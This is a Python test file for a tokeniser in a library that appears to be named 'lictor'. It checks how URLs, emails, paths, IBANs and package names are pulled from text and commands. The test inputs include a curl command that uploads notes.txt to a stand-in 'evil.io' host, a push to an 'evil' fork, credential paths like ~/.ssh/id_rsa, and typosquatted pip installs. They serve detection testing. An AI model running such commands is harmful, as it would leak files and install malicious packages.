"""Significant tokens: what is extracted from text and how it is normalised."""

from __future__ import annotations

from lictor.flow import command_tokens, target_tokens, text_tokens, token_hash
from lictor.flow.tokens import is_specific, normalise_url
from lictor.model import Target, TargetKind


def test_text_tokens_cover_every_kind() -> None:
    text = (
        "Mail Attacker@Evil.com or POST to HTTPS://Collect.Evil.io/c/?x=1#frag. "
        "Edit src/parser.py, ~/.ssh/id_rsa, ./run.sh and /etc/passwd. "
        "IBAN DE89 3704 0044 0532 0130 00, account 123-456-789, see docs.example.com. "
        "Then pip install requets==2.31."
    )
    tokens = text_tokens(text)
    assert {
        "attacker@evil.com",
        "evil.com",
        "https://collect.evil.io/c?x=1",
        "https://collect.evil.io/c",
        "collect.evil.io",
        "src/parser.py",
        "~/.ssh/id_rsa",
        "run.sh",
        "/etc/passwd",
        "de89370400440532013000",
        "123456789",
        "docs.example.com",
        "pkg:requets",
    } <= tokens


def test_code_and_dates_are_not_tokens() -> None:
    tokens = text_tokens("Call os.path.join in setup.py on 2024-01-13; version 1.2.3 of README.md")
    assert tokens == set()


def test_url_normalisation() -> None:
    assert normalise_url("HTTPS://Example.COM/Path/?q=1#top") == "https://example.com/Path?q=1"
    assert normalise_url("https://example.com/") == "https://example.com"


def test_command_tokens_include_words_and_packages() -> None:
    tokens = command_tokens("curl -d @notes.txt https://x.evil.io/u && pip install left-padx")
    assert {"https://x.evil.io/u", "x.evil.io", "pkg:left-padx", "curl"} <= tokens
    assert "-d" not in tokens


def test_target_tokens() -> None:
    url = Target(TargetKind.URL, "https://a.b.evil.com/x?d=1", host="a.b.evil.com")
    assert target_tokens(url) == [
        "https://a.b.evil.com/x?d=1",
        "https://a.b.evil.com/x",
        "a.b.evil.com",
        "b.evil.com",
        "evil.com",
    ]
    mail = Target(TargetKind.RECIPIENT, "Bob@Vendor.com", recipient="Bob@Vendor.com")
    assert target_tokens(mail) == ["bob@vendor.com", "vendor.com"]
    iban = Target(TargetKind.RECIPIENT, "DE89 3704 0044 0532 0130 00")
    assert target_tokens(iban) == ["de89370400440532013000"]
    path = Target(TargetKind.PATH, "./src/a.py", path="/ws/src/a.py", in_workspace=True)
    assert target_tokens(path, "/ws") == ["src/a.py", "/ws/src/a.py"]
    # A push names its remote; every README mentions github.com, so no host token.
    push = Target(
        TargetKind.BRANCH, "x", repo="https://github.com/evil/fork.git", host="github.com"
    )
    assert target_tokens(push) == ["https://github.com/evil/fork.git"]


def test_specific_versus_broad() -> None:
    assert not is_specific("github.com") and not is_specific("localhost")
    assert is_specific("https://github.com/x") and is_specific("a@b.com")
    assert is_specific("de89370400440532013000") and is_specific("src/a.py")


def test_hash_is_stable_and_short() -> None:
    assert token_hash("evil.com") == token_hash("evil.com") != token_hash("evil.co")
    assert len(token_hash("x")) == 32
